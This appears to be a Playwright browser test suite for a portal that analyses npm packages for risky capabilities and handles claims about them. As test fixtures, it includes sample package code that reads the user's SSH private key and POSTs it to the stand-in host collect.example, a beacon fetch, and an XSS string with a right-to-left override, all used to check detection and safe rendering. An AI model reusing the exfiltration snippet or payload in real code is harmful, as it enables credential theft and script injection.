import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { after, before, describe, test } from 'node:test';
import AxeBuilder from '@axe-core/playwright';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { findBrowser, NO_BROWSER, startSite, type TestSite } from './testkit/site.ts';
import { packed } from './testkit/tar.ts';

const browserPath = findBrowser();
/** Where screenshots go, to be looked at; none are made where nobody asks for them. */
const SHOTS = process.env['AVOW_SCREENSHOTS'];

/** Names and texts that would act, hide or mislead if they were not shown as text. */
const HOSTILE = '<img src=x onerror=alert(1)>"\'\u202e';
const SOURCE = `const https = require('https');
const fs = require('fs');
const key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8');
https.request({ host: 'collect.example', method: 'POST', path: ${JSON.stringify(HOSTILE)} }).end(key);
// ${HOSTILE}
`;

describe('the portal in a browser', {
  skip: browserPath === undefined ? NO_BROWSER : false,
}, () => {
  let site: TestSite;
  let browser: Browser;
  let signedIn: BrowserContext;
  let release = '';

  before(async () => {
    site = await startSite();
    browser = await chromium.launch({ executablePath: browserPath!, args: ['--no-sandbox'] });
    signedIn = await browser.newContext();
    const page = await signedIn.newPage();
    await page.goto(`${site.url}/register?next=/examine`);
    await page.getByRole('main').getByLabel('Name').fill('Ada');
    await page.getByRole('main').getByLabel('Password').fill('four unlikely words');
    await page.getByRole('button', { name: 'Make the account' }).click();
    await page
      .getByRole('main')
      .getByLabel('Or a file')
      .setInputFiles({
        name: 'thing-1.0.0.tgz',
        mimeType: 'application/gzip',
        buffer: Buffer.from(
          packed({
            'package.json': JSON.stringify({ name: 'thing', version: '1.0.0', main: 'a.js' }),
            'a.js': SOURCE,
            [`${HOSTILE.replaceAll('/', '')}.js`]: 'fetch("https://beacon.example/")',
          }),
        ),
      });
    await page.getByRole('main').getByLabel('Everyone may see the result').check();
    await page.getByRole('main').getByRole('button', { name: 'Examine' }).click();
    await page.waitForURL(/\/releases\/\d+/, { timeout: 60_000 });
    release = new URL(page.url()).pathname;
    await page.close();
  });
  after(async () => {
    await browser?.close();
    await site?.stop();
  });

  const pagesOf = () => [
    '/',
    '/products',
    '/products/1',
    release,
    `/places?at=${encodeURIComponent('pkg:npm/thing@1.0.0#a.js @line:3')}`,
    `/places?at=${encodeURIComponent('pkg:npm/thing@1.0.0#a.js @line:3')}&as=hex`,
    `/compare?at=${encodeURIComponent('pkg:npm/thing@1.0.0#a.js @line:3')}`,
    '/diff?old=1&new=1',
    '/search?q=collect.example',
    '/search?q=nothing-like-it',
    '/claims',
    '/claims/new',
    '/claims/track',
    '/cases',
    '/news',
    '/log',
    '/about',
    '/examine',
    '/sign-in',
    '/register',
    '/account',
    '/account/webhooks',
    '/no-such-page',
  ];

  async function shot(page: Page, name: string): Promise<void> {
    if (SHOTS === undefined) return;
    mkdirSync(SHOTS, { recursive: true });
    const file = name.replaceAll(/[^\w-]+/g, '_').slice(0, 80);
    await page.screenshot({ path: `${SHOTS}/${file}.png`, fullPage: true });
  }

  for (const colorScheme of ['light', 'dark'] as const) {
    test(`every page in ${colorScheme} colours can be read, named and reached by everyone (axe)`, async () => {
      const storage = await signedIn.storageState();
      const context = await browser.newContext({ colorScheme, storageState: storage });
      const page = await context.newPage();
      const faults: string[] = [];
      for (const path of pagesOf()) {
        await page.goto(site.url + path);
        const { violations } = await new AxeBuilder({ page }).analyze();
        for (const { id, nodes } of violations) {
          faults.push(`${path}: ${id}: ${nodes.map(({ html }) => html.slice(0, 120)).join(' | ')}`);
        }
        await shot(page, `${colorScheme}${path}`);
      }
      await context.close();
      assert.deepEqual(faults, []);
    });
  }

  for (const [width, locale] of [
    [320, 'en'],
    [320, 'ru'],
    [1440, 'ru'],
  ] as const) {
    test(`no page is wider than ${width} px in ${locale}, and none says a word it has no message for`, async () => {
      const context = await browser.newContext({
        viewport: { width, height: 900 },
        locale,
        storageState: await signedIn.storageState(),
      });
      const page = await context.newPage();
      const faults: string[] = [];
      for (const path of pagesOf()) {
        await page.goto(site.url + path);
        const wide = await page.evaluate<number>('document.documentElement.scrollWidth');
        if (wide > width) faults.push(`${path} is ${wide} px wide`);
        const lang = await page.evaluate<string>('document.documentElement.lang');
        if (lang !== locale) faults.push(`${path} is in ${lang}`);
        await shot(page, `${width}-${locale}${path}`);
      }
      await context.close();
      assert.deepEqual(faults, []);
    });
  }

  test('markup, direction marks and control characters of a product are shown, and do nothing', async () => {
    const page = await signedIn.newPage();
    let dialogs = 0;
    page.on('dialog', (dialog) => {
      dialogs++;
      dialog.dismiss();
    });
    const outside: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(site.url)) outside.push(request.url());
    });
    for (const path of pagesOf()) await page.goto(site.url + path);
    assert.equal(dialogs, 0);
    assert.deepEqual(outside, [], 'no request goes to another origin');
    await page.goto(
      `${site.url}/places?at=${encodeURIComponent('pkg:npm/thing@1.0.0#a.js @line:5')}`,
    );
    assert.match(
      (await page.locator('#L5 .text').textContent()) ?? '',
      /<img src=x onerror=alert\(1\)>.*\\u\{202e\}/,
    );
    await page.close();
  });

  test('a product tells what its next release gained, features first', async () => {
    const page = await signedIn.newPage();
    const main = page.getByRole('main');
    await page.goto(`${site.url}/examine`);
    await main.getByLabel('Or a file').setInputFiles({
      name: 'thing-1.1.0.tgz',
      mimeType: 'application/gzip',
      buffer: Buffer.from(
        packed({
          'package.json': JSON.stringify({ name: 'thing', version: '1.1.0', main: 'a.js' }),
          'a.js': `${SOURCE}require('child_process').exec('ls');\n`,
        }),
      ),
    });
    await main.getByLabel('Everyone may see the result').check();
    await main.getByRole('button', { name: 'Examine' }).click();
    await page.waitForURL(/\/releases\/\d+/, { timeout: 60_000 });
    await page.goto(`${site.url}/products/1`);
    await main.getByText('new: runs programs').waitFor();
    await main.getByRole('link', { name: /Since 1\.0\.0/ }).click();
    await main.getByRole('heading', { name: 'What it can do' }).first().waitFor();
    await main.getByText('runs programs').first().waitFor();
    await main.getByText('beacon.example').first().waitFor();
    await page.close();
  });

  test('a place is marked in its source, and a selection gives its locator to copy or to claim', async () => {
    const page = await signedIn.newPage();
    await page.goto(
      `${site.url}/places?at=${encodeURIComponent('pkg:npm/thing@1.0.0#a.js @line:3')}`,
    );
    assert.match((await page.locator('#L3').getAttribute('class')) ?? '', /here/);
    assert.ok((await page.locator('#L3 mark').count()) > 0);
    await page.locator('#L4 .text').dblclick({ position: { x: 30, y: 8 } });
    const selected = page.locator('#selected code');
    await selected.waitFor();
    assert.match(
      (await selected.textContent()) ?? '',
      /^pkg:npm\/thing@1\.0\.0#a\.js @line:4:\d+$/,
    );
    await page.getByRole('link', { name: 'Make a claim about this place' }).click();
    assert.match(await page.getByRole('main').getByLabel('Place').inputValue(), /@line:4:\d+$/);
    await page.close();
  });

  describe('without script', () => {
    let context: BrowserContext;
    before(async () => {
      context = await browser.newContext({ javaScriptEnabled: false });
    });
    after(() => context.close());

    test('one reads, files a claim, learns what is missing, comes back with the code and completes it', async () => {
      const page = await context.newPage();
      await page.goto(site.url);
      await page.getByRole('link', { name: 'Make a claim' }).click();
      await page.getByRole('main').getByLabel('Product and its version').fill('npm:thing@1.0.0');
      await page.getByRole('button', { name: 'Check' }).click();
      await page.getByRole('alert').getByText('Place').waitFor();
      assert.equal(
        await page.getByRole('main').getByLabel('Product and its version').inputValue(),
        'npm:thing@1.0.0',
      );
      await page
        .getByRole('main')
        .getByLabel('What it does there')
        .fill('cred.ssh-pgp -> net.http');
      await page.getByRole('button', { name: 'Hand it in' }).click();
      const code = (await page.locator('.receipt code').textContent()) ?? '';
      assert.match(code, /^[0-9A-Z-]{26,}$/);
      await page.goto(`${site.url}/claims/track`);
      await page.getByRole('main').getByLabel('Receipt code').fill(code.toLowerCase());
      await page.getByRole('button', { name: 'Show the claim' }).click();
      await comesTo(page, code, 'turned back');
      assert.match(
        await page.getByRole('main').getByLabel('Complete it').inputValue(),
        /cred\.ssh-pgp/,
      );
      await page
        .getByRole('main')
        .getByLabel('Complete it')
        .fill('pkg:npm/thing@1.0.0#a.js @line:4:1\nfeature: cred.ssh-pgp -> net.http');
      await page.getByRole('button', { name: 'Send' }).first().click();
      await comesTo(page, code, 'valid');
      await page.close();
    });

    test('the check shows the very place before anything is handed in, and the nearest one where there is none', async () => {
      const page = await context.newPage();
      const main = page.getByRole('main');
      await page.goto(`${site.url}/claims/new`);
      await main.getByLabel('Product and its version').fill('npm:thing@1.0.0');
      await main.getByLabel('Module or database update').fill('b.js');
      await main.getByLabel('Place').fill('4:1');
      await main.getByLabel('What it does there').fill('net.http');
      await page.getByRole('button', { name: 'Check' }).click();
      await main.getByText('The product has no such file').waitFor();
      await main.getByRole('link', { name: 'take this' }).first().click();
      assert.match(await main.getByLabel('Place').inputValue(), /^pkg:npm\/thing@1\.0\.0#a\.js @/);
      assert.equal(await main.getByLabel('What it does there').inputValue(), 'net.http');
      await page.getByRole('button', { name: 'Check' }).click();
      await main.getByText("host: 'collect.example'").waitFor();
      await main.getByText('Nothing has been sent yet.').waitFor();
      await page.goto(`${site.url}/claims`);
      await main.getByText('There is no public claim.').waitFor();
      await page.close();
    });

    test('a wrong code finds nothing, and says so without a word of whether there is a claim', async () => {
      const page = await context.newPage();
      await page.goto(`${site.url}/claims/track`);
      await page
        .getByRole('main')
        .getByLabel('Receipt code')
        .fill('AAAAA-AAAAA-AAAAA-AAAAA-AAAAA-A');
      await page.getByRole('button', { name: 'Show the claim' }).click();
      await page.getByRole('alert').getByText('There is no claim with this code').waitFor();
      await page.close();
    });

    test('language and colours are chosen, and stay', async () => {
      const page = await context.newPage();
      await page.goto(`${site.url}/products`);
      await page.getByLabel('Language').selectOption('ru');
      await page.getByLabel('Colours').selectOption('dark');
      await page.getByRole('button', { name: 'Apply' }).click();
      assert.equal(new URL(page.url()).pathname, '/products');
      await page.getByRole('heading', { name: 'Продукты' }).waitFor();
      await page.goto(site.url);
      assert.equal(await page.locator('html').getAttribute('data-theme'), 'dark');
      await page.close();
    });
  });

  test('by keyboard alone: past the head, to the search, and into a result', async () => {
    const page = await signedIn.newPage();
    await page.goto(site.url);
    await page.keyboard.press('Tab');
    assert.equal(await focused(page), 'Skip to the content');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Tab');
    await page.keyboard.type('thing');
    await page.keyboard.press('Enter');
    await page.waitForURL(/\/search\?q=thing/);
    await page.locator('main a').first().focus();
    const outline = await page.evaluate('getComputedStyle(document.activeElement).outlineStyle');
    assert.notEqual(outline, 'none', 'what has the focus is seen');
    await page.keyboard.press('Enter');
    await page.waitForURL(/\/(products|places)/);
    await page.close();
  });

  test('a passkey is made and signs in', async () => {
    const context = await browser.newContext({ storageState: await signedIn.storageState() });
    const page = await context.newPage();
    const devtools = await context.newCDPSession(page);
    await devtools.send('WebAuthn.enable');
    await devtools.send('WebAuthn.addVirtualAuthenticator', {
      options: {
        protocol: 'ctap2',
        transport: 'internal',
        hasResidentKey: true,
        hasUserVerification: true,
        isUserVerified: true,
      },
    });
    await page.goto(`${site.url}/account`);
    await page.getByRole('button', { name: 'Add a passkey' }).click();
    await page.getByText('passkey', { exact: true }).waitFor();
    await context.clearCookies();
    await page.goto(`${site.url}/sign-in?next=/account`);
    await page.getByRole('button', { name: 'Sign in with a passkey' }).click();
    await page.getByRole('heading', { name: 'Ada' }).waitFor();
    await context.close();
  });

  test('the front page loads under 50 KB of script', async () => {
    const page = await signedIn.newPage();
    let bytes = 0;
    page.on('response', async (response) => {
      if (response.request().resourceType() === 'script') bytes += (await response.body()).length;
    });
    await page.goto(site.url, { waitUntil: 'networkidle' });
    assert.ok(bytes < 50_000, `${bytes} bytes`);
    await page.close();
  });
});

/** The claim is answered by a job: it is looked at again until it is there. */
async function comesTo(page: Page, code: string, state: string): Promise<void> {
  for (let round = 0; round < 30; round++) {
    if (await page.getByText(state, { exact: true }).isVisible()) return;
    await new Promise((resolve) => setTimeout(resolve, 1000));
    await page.goto(new URL('/claims/track', page.url()).href);
    await page.getByRole('main').getByLabel('Receipt code').fill(code);
    await page.getByRole('button', { name: 'Show the claim' }).click();
  }
  assert.fail(`the claim did not come to be ${state}`);
}

async function focused(page: Page): Promise<string> {
  return page.evaluate<string>("document.activeElement?.textContent ?? ''");
}
